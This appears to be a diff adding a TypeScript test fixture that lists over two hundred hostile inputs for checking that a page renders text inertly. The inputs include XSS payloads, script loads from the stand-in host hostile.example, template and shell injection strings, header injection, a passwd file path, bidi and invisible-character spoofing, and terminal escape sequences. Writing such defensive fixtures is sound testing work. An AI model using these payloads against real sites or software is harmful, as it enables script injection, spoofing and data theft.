@@ -1,0 +1,286 @@
+/** What a text that ran would do: the page would have this on its window. */
+export const HIT = 'stemmaWasHit';
+const RUN = `window.${HIT}=1`;
+const ELSEWHERE = 'http://hostile.example';
+
+const scripts = [
+  `<script>${RUN}</script>`,
+  `<ScRiPt>${RUN}</sCrIpT>`,
+  `<script src=${ELSEWHERE}/a.js></script>`,
+  `<script type=module>${RUN}</script>`,
+  `<script\n>${RUN}</script\t>`,
+  `<script/src="data:text/javascript,${RUN}"></script>`,
+  `</script><script>${RUN}</script>`,
+  `"></script><script>${RUN}//`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<!--><script>${RUN}</script-->`,
+  `<![CDATA[<script>${RUN}</script>]]>`,
+  `<noscript><p title="</noscript><script>${RUN}</script>">`,
+  `<template><script>${RUN}</script></template>`,
+  `</title><script>${RUN}</script>`,
+  `</textarea><script>${RUN}</script>`,
+  `</style><script>${RUN}</script>`,
+  `<xmp><script>${RUN}</script></xmp>`,
+  `<plaintext><script>${RUN}</script>`,
+];
+
+/** Elements that run an attribute as soon as they stand in a page, or once something is done to them. */
+const handlers = [
+  ...[
+    'img src=x onerror',
+    'IMG SRC=x OnErRoR',
+    'img/src/onerror',
+    'body onload',
+    'input autofocus onfocus',
+    'select autofocus onfocus',
+    'textarea autofocus onfocus',
+    'details open ontoggle',
+    'video src=x onerror',
+    'audio src=x onerror',
+    'marquee onstart',
+    'div onpointerover',
+    'a href=# onclick',
+    'button onclick',
+    'style onload',
+    'object data=x onerror',
+    'dialog open onclose',
+    'p onmouseenter',
+    'iframe onload',
+    'form onformdata',
+  ].map((element) => `<${element}="${RUN}">`),
+  `" onmouseover="${RUN}" x="`,
+  `' onfocus='${RUN}' autofocus x='`,
+  '` onerror=`' + RUN,
+  `x onerror=${RUN} `,
+  `<img src=x onerror=\u0000"${RUN}">`,
+  `<img src="x\n" onerror\n=\n"${RUN}">`,
+];
+
+const addresses = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  `java\tscript:${RUN}`,
+  `java\nscript:${RUN}`,
+  ` \u0001javascript:${RUN}`,
+  `javascript://%0a${RUN}`,
+  `javascript&colon;${RUN}`,
+  `&#106;avascript:${RUN}`,
+  `vbscript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuc3RlbW1hV2FzSGl0PTE8L3NjcmlwdD4=`,
+  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
+  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5zdGVtbWFXYXNIaXQ9MSIvPg==',
+  'data:image/png;base64,AAAA',
+  `data:image/png;base64,"><script>${RUN}</script>`,
+  `blob:${ELSEWHERE}/1`,
+  `${ELSEWHERE}/picture.png`,
+  '//hostile.example/picture.png',
+  '\\\\hostile.example\\share',
+  'file:///etc/passwd',
+  '../../api/histories',
+  '?h=other#fragment',
+];
+
+const markup = [
+  `<a href="javascript:${RUN}">here</a>`,
+  `<form action="${ELSEWHERE}"><input name=q autofocus></form>`,
+  `<button formaction="javascript:${RUN}">send</button>`,
+  `<base href="${ELSEWHERE}/">`,
+  `<link rel=stylesheet href="${ELSEWHERE}/a.css">`,
+  `<link rel=prefetch href="${ELSEWHERE}/a">`,
+  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
+  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
+  `<iframe src="${ELSEWHERE}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${HIT}=1</script>"></iframe>`,
+  `<embed src="data:text/html,<script>${RUN}</script>">`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<style>*{background:url(${ELSEWHERE}/b)}</style>`,
+  `<style>@import '${ELSEWHERE}/c.css';</style>`,
+  `<div style="background:url(${ELSEWHERE}/d)">`,
+  `<div style="position:fixed;inset:0;z-index:9999">over all</div>`,
+  `<img srcset="${ELSEWHERE}/e 1x" src=data:,>`,
+  `<b id=root>the root</b><form name=body>`,
+  `<dialog open>Your session is over</dialog>`,
+  `<div class="app shows-view" hidden>`,
+];
+
+const drawings = [
+  `<svg onload="${RUN}">`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><script href="data:,${RUN}"/></svg>`,
+  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text y=20>here</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
+  `<svg><foreignObject><iframe onload="${RUN}"></iframe></foreignObject></svg>`,
+  `<svg><image href="${ELSEWHERE}/f.png"/></svg>`,
+  `<svg><style>@import '${ELSEWHERE}/g.css';</style></svg>`,
+  `<svg><set attributeName=href to="javascript:${RUN}"/></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
+  `<math href="javascript:${RUN}">here</math>`,
+  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
+];
+
+const templates = [
+  `{{constructor.constructor('${RUN}')()}}`,
+  `{{${RUN}}}`,
+  '${' + RUN + '}',
+  `#{${RUN}}`,
+  `<%= ${RUN} %>`,
+  `<%- ${RUN} %>`,
+  `{%raw%}${RUN}{%endraw%}`,
+  `[[${RUN}]]`,
+  `@{${RUN}}`,
+  `{{#with "x"}}{{lookup this "constructor"}}{{/with}}`,
+  `*{T(java.lang.Runtime)}`,
+  `$(touch x)`,
+  '`touch x`',
+  `'; touch x; '`,
+  `%s%n%p%x`,
+  `{"__html":"<b>x</b>"}`,
+  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror='${RUN}'>"}}`,
+];
+
+const policies = [
+  "default-src *; script-src 'unsafe-inline' *",
+  "x'; script-src * 'unsafe-eval",
+  'x\r\nContent-Security-Policy: script-src *',
+  'x\r\nSet-Cookie: a=b',
+  'x\r\n\r\n<html><script>',
+  'x; report-uri http://hostile.example',
+  '<meta name=referrer content=unsafe-url>',
+  '<link rel=preconnect href=http://hostile.example>',
+];
+
+const directions = [
+  'picture\u202egpj.exe',
+  '\u202dforced\u202c',
+  '\u2066isolated\u2069',
+  '\u2067\u2067\u2067never closed',
+  '\u2068first\u202e',
+  '\u202a\u202b\u202c\u202d',
+  'admin\u200f',
+  'admin\u200e',
+  'admin\u061c',
+  'שלום עולם (abc) 123',
+  'العربية [x] "y"',
+  'if access \u202e\u2066// for admins\u2069 \u2066only\u2069',
+];
+
+const unseen = [
+  'ad\u200bmin',
+  'ad\u200cmin',
+  'ad\u200dmin',
+  'ad\u2060min',
+  '\ufeffadmin',
+  'ad\u00admin',
+  'ad\u034fmin',
+  'ad\u115fmin',
+  'ad\u3164min',
+  '\u{e0061}\u{e0064}\u{e006d}tagged',
+  'line\u2028separator',
+  'line\u2029paragraph',
+  'n\u0303\u0303\u0303\u0303\u0303\u0303\u0303\u0303\u0303\u0303\u0303\u0303',
+  'Z' + '\u0351\u0352\u0353\u0300\u0301\u0302'.repeat(40),
+];
+
+const controls = [
+  'nul\u0000byte',
+  'back\b\b\b\bspace',
+  'bell\u0007',
+  'vertical\u000btab',
+  'form\u000cfeed',
+  'carriage\rreturn',
+  'delete\u007f',
+  'next\u0085line',
+  'c1\u0090string\u009c',
+  'c1\u009b31mred',
+  'c1\u009d0;title\u009c',
+  'unit\u001fseparator',
+  'shift\u000eout\u000f',
+];
+
+const terminals = [
+  '\u001b[31mred\u001b[0m',
+  '\u001b[2J\u001b[H',
+  '\u001b]0;title\u0007',
+  '\u001b]8;;http://hostile.example\u001b\\link\u001b]8;;\u001b\\',
+  '\u001b]52;c;dG91Y2ggeA==\u0007',
+  '\u001bP1$r\u001b\\',
+  '\u001b[?1049h',
+  '\u001bc',
+  '\u001b[6n',
+  '\u001b[8mhidden\u001b[28m',
+];
+
+const names = [
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  'valueOf',
+  'hasOwnProperty',
+  '__defineGetter__',
+  'then',
+  'toJSON',
+  'length',
+  'undefined',
+  'null',
+  'NaN',
+  'true',
+  '-0',
+  '1e999',
+];
+
+const markdown = [
+  `[here](javascript:${RUN})`,
+  `[here](JAVASCRIPT:${RUN} "title")`,
+  `[here](data:text/html,<script>${RUN}</script>)`,
+  `![x](${ELSEWHERE}/h.png)`,
+  `![x](javascript:${RUN})`,
+  `![x](x" onerror="${RUN})`,
+  `![<img src=x onerror=${RUN}>][1]\n\n[1]: ${ELSEWHERE}/i.png`,
+  `<javascript:${RUN}>`,
+  `<${ELSEWHERE}>`,
+  `[a]: javascript:${RUN}\n\n[a]`,
+  '```html\n<script>' + RUN + '</script>\n```',
+  '`<img src=x onerror=' + RUN + '>`',
+  `> <img src=x onerror=${RUN}>\n> - <script>${RUN}</script>`,
+  `| <script>${RUN}</script> | b |\n|---|---|\n| ![x](${ELSEWHERE}/j.png) | [y](javascript:${RUN}) |`,
+  `# <img src=x onerror=${RUN}>`,
+  `<div\n\n<img src=x onerror=${RUN}>\n\n</div>`,
+  `[x](<javascript:${RUN}>)`,
+  '&lt;script&gt;' + RUN + '&lt;/script&gt;',
+  '&#x3c;script&#x3e;' + RUN,
+  '\\<script>' + RUN,
+  '>'.repeat(200) + ' deep',
+  '['.repeat(300) + 'x' + ']()'.repeat(300),
+];
+
+const encodings = [
+  '%3Cscript%3E' + RUN + '%3C/script%3E',
+  '+ADw-script+AD4-' + RUN,
+  '\\u003cscript\\u003e' + RUN,
+  '＜script＞' + RUN,
+  '\ud800 half of a pair',
+  'half of a pair \udfff',
+  '\udc00\ud800 turned around',
+  '🏴\u200d☠️ 👨‍👩‍👧‍👦',
+  '\u{10ffff}\ufffe\uffff',
+];
+
+const huge = [
+  'x'.repeat(60_000),
+  'word '.repeat(12_000),
+  '<b>'.repeat(20_000),
+  `<img src=x onerror="${RUN}">`.repeat(500),
+  '\n'.repeat(5_000),
+  '\u202e'.repeat(2_000),
+];
+
+/** Texts that a page must show and do nothing else with: over two hundred, each another one. */
+export const HOSTILE_TEXTS: readonly string[] = [
+  ...new Set([
+    ...[scripts, handlers, addresses, markup, drawings, templates, policies, directions].flat(),
+    ...[unseen, controls, terminals, names, markdown, encodings, huge].flat(),
+  ]),
+];
